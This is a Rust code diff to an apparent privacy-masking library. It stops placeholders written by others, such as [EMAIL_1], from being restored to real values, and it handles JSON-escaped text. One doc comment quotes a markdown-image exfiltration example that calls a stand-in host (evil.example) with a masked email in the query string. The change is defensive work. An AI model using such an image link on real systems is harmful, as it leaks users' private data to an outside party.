@@ -5,6 +5,8 @@ use alloc::string::String;
 use alloc::sync::Arc;
 use core::ops::Bound;
 
+use hashbrown::HashSet;
+
 use super::numbering::Numbering;
 use super::placeholder;
 use crate::Kind;
@@ -14,6 +16,9 @@ use crate::lock::Lock;
 /// the values that a [`Restorer`](super::Restorer) turns placeholders back into. Cloning it shares it.
 ///
 /// It remembers [`Limits::entities`](crate::Limits::entities) values, as [`Numbering`] does.
+///
+/// A placeholder that is [reserved](Self::reserve) was written by somebody else, who may want it turned back where the
+/// value is seen (`![](https://evil.example/?q=[EMAIL_1])`): it stands for no value from there on.
 #[derive(Clone, Debug, Default)]
 pub struct Conversation(Arc<Lock<State>>);
 
@@ -23,6 +28,39 @@ struct State {
     /// By their placeholders.
     values: BTreeMap<String, String>,
     bytes: usize,
+    /// The kinds and numbers that somebody else wrote.
+    foreign: HashSet<(Option<Kind>, u32)>,
+}
+
+impl State {
+    /// Past so many placeholders of somebody else no value is kept any more: it could have one of them.
+    const FOREIGN: usize = 4096;
+
+    fn reserve(&mut self, text: &str) {
+        for (whole, kind, number) in numbered(text) {
+            self.numbering.reserve(kind, number);
+            if self.foreign.len() < Self::FOREIGN {
+                self.foreign.insert((kind, number));
+            }
+            if let Some(value) = self.values.remove(whole) {
+                self.bytes -= whole.len() + value.len();
+            }
+        }
+    }
+
+    fn keep(&mut self, placeholder: &str, value: &str) {
+        // It may have been reserved since the value got it.
+        let foreign = self.foreign.len() >= Self::FOREIGN
+            || numbered(placeholder).any(|(_, kind, number)| self.is_foreign(kind, number));
+        if !foreign && !self.values.contains_key(placeholder) {
+            self.bytes += placeholder.len() + value.len();
+            self.values.insert(placeholder.into(), value.into());
+        }
+    }
+
+    fn is_foreign(&self, kind: Option<Kind>, number: u32) -> bool {
+        self.foreign.contains(&(kind, number))
+    }
 }
 
 impl Conversation {
@@ -41,31 +79,22 @@ impl Conversation {
 
     /// Bytes of the values, placeholders, numbers and names that it holds.
     pub fn bytes(&self) -> usize {
-        self.0.with(|state| state.bytes + state.numbering.bytes())
-    }
-
-    /// Gives no value the number of a placeholder that stands in `text` and is not its own: it was
-    /// written by somebody else, and must not be turned back. The text may be JSON, in which characters stand in
-    /// code (`\\u005bEMAIL_1]`).
-    pub fn reserve(&self, text: &str) {
-        self.reserve_in(text);
-        if text.contains("\\u") {
-            self.reserve_in(&uncoded(text));
-        }
-    }
-
-    fn reserve_in(&self, text: &str) {
         self.0.with(|state| {
-            for (whole, name, number) in placeholder::all(text) {
-                let kind = Kind::ALL
-                    .into_iter()
-                    .find(|kind| placeholder::names(*kind, name));
-                let known = kind.is_some() || name == placeholder::UNDECIDED;
-                if known && !state.values.contains_key(whole) {
-                    state.numbering.reserve(kind, number);
-                }
-            }
-        });
+            let foreign = state.foreign.len() * size_of::<(Option<Kind>, u32)>();
+            state.bytes + foreign + state.numbering.bytes()
+        })
+    }
+
+    /// Turns no placeholder that stands in `text` back from here on, and gives none to a value that is to be
+    /// turned back: they were written by somebody else. A value that had one gets another. To be called with all
+    /// that goes out, before it is masked. The text may be JSON, also within a string of JSON, in which characters stand in code
+    /// (`\\u005bEMAIL_1]`).
+    pub fn reserve(&self, text: &str) {
+        self.0.with(|state| state.reserve(text));
+        if text.contains("\\u") {
+            let text = uncoded(text);
+            self.0.with(|state| state.reserve(&text));
+        }
     }
 
     /// The numbers.
@@ -76,10 +105,24 @@ impl Conversation {
         }
     }
 
-    /// The number of a value, given to it now where it has none; `None` past the limit.
-    pub(super) fn number(&self, kind: Option<Kind>, value: &str, limit: usize) -> Option<u32> {
-        self.0
-            .with(|state| state.numbering.number(kind, value, limit))
+    /// The number of a value, given to it now where it has none; `None` past the limit. One that is to be `kept` gets
+    /// another where somebody else wrote its own.
+    pub(super) fn number(
+        &self,
+        kind: Option<Kind>,
+        value: &str,
+        limit: usize,
+        kept: bool,
+    ) -> Option<u32> {
+        self.0.with(|state| {
+            loop {
+                let number = state.numbering.number(kind, value, limit)?;
+                if !(kept && state.is_foreign(kind, number)) {
+                    return Some(number);
+                }
+                state.numbering.forget(kind, value);
+            }
+        })
     }
 
     /// Notes what a name that was masked may be shortened to.
@@ -95,12 +138,7 @@ impl Conversation {
 
     /// Keeps the value that a placeholder stands for. The first way in which it was written stays.
     pub(super) fn keep(&self, placeholder: &str, value: &str) {
-        self.0.with(|state| {
-            if !state.values.contains_key(placeholder) {
-                state.bytes += placeholder.len() + value.len();
-                state.values.insert(placeholder.into(), value.into());
-            }
-        });
+        self.0.with(|state| state.keep(placeholder, value));
     }
 
     /// Hands the value to `found`, where there is one.
@@ -121,7 +159,17 @@ impl Conversation {
     }
 }
 
-/// The text with each `\u005b` as its character, as far as one code says it.
+/// The numbered placeholders in `text` that a value may have: each whole, its kind, its number.
+fn numbered(text: &str) -> impl Iterator<Item = (&str, Option<Kind>, u32)> {
+    placeholder::all(text).filter_map(|(whole, name, number)| {
+        let mut kinds = Kind::ALL.into_iter();
+        let kind = kinds.find(|kind| placeholder::names(*kind, name));
+        let known = kind.is_some() || name == placeholder::UNDECIDED;
+        known.then_some((whole, kind, number))
+    })
+}
+
+/// The text with each `\u005b` as its character, as far as one code says it, and however often it was coded.
 fn uncoded(text: &str) -> String {
     let mut parts = text.split("\\u");
     let mut plain = String::from(parts.next().unwrap_or_default());
@@ -131,6 +179,8 @@ fn uncoded(text: &str) -> String {
             .and_then(|code| u32::from_str_radix(code, 16).ok());
         match code.and_then(char::from_u32) {
             Some(c) => {
+                let said = plain.trim_end_matches('\\').len();
+                plain.truncate(said);
                 plain.push(c);
                 plain.push_str(&part[4..]);
             }
